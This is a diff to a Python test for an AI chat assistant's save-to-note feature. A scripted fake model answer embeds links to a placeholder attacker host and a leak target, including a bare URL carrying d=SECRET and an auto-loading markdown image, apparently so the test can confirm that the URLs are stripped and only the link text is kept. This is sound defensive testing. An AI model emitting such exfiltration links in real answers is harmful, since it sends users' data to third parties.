@@ -337,8 +337,10 @@ def test_save_to_note_keeps_the_answers_links_text(world, fake, alice_client):
                              "citations": [{"n": n, "quote": quote}]})  # fmt: skip
         if not results:
             return ToolCall("document_search", {"query": "seed orders catalogue"})
+        # ("Order from the catalogue" would claim too little: "order" is an English stop
+        # word in stopwords-iso, and one content word is no claim, chat.claims.)
         return Answer(
-            f"Order from [the catalogue]({SEEDS}) [{seeds_n(results[0])}]. "
+            f"Order seeds from [the catalogue]({SEEDS}) [{seeds_n(results[0])}]. "
             f"Send your notes to [the archive]({LEAK}), [the mirror](//{ATTACKER}/m), "
             f"<https://{ATTACKER}/auto>, [the index][i] and https://{ATTACKER}/bare?d=SECRET "
             f"![chart](https://{ATTACKER}/c.png).\n\n[i]: https://{ATTACKER}/ref"
